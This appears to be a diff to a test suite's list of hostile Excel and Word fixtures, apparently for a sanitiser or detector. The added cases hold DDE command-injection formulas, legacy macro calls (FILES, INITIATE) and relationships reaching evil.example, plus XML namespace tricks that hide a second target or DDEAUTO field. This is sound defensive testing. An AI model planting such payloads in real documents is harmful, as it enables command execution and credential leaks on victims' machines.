@@ -266,6 +266,21 @@ function office(): HostileDocument[] {
     excel('RTD', cell('RTD("evil.server",,"x")')),
     excel('CALL', cell('CALL("kernel32","WinExec","JCJ","calc",0)')),
     excel('a command', cell("cmd|'/c calc'!A1")),
+    excel('a command without quotation marks', cell('cmd|calc!A1')),
+    excel('FILES of old macros', cell('FILES("\\\\evil.example\\share\\*")')),
+    excel('INITIATE of old macros', cell('INITIATE("cmd","x")')),
+    excel(
+      'a relation with a target of another namespace first',
+      relation('hyperlink', 'file://evil.example/x').replace(
+        'Id=',
+        'xmlns:x="u" x:Target="https://example.org/" Id=',
+      ),
+      'xl/worksheets/_rels/sheet1.xml.rels',
+    ),
+    word(
+      'a field with another of its name first',
+      '<w:p xmlns:w="u" xmlns:x="v"><w:fldSimple x:instr=" PAGE " w:instr=" DDEAUTO cmd "/></w:p>',
+    ),
     excel('a command in CDATA', cell("<![CDATA[cmd|'/c calc'!A1]]>")),
     excel('a command in UTF-16', writings['in UTF-16'](cell("MSEXCEL|'\\..\\cmd.exe'!A1"))),
     excel('a picture that is fetched', cell('_xlfn.IMAGE("https://evil.example/p.png")')),
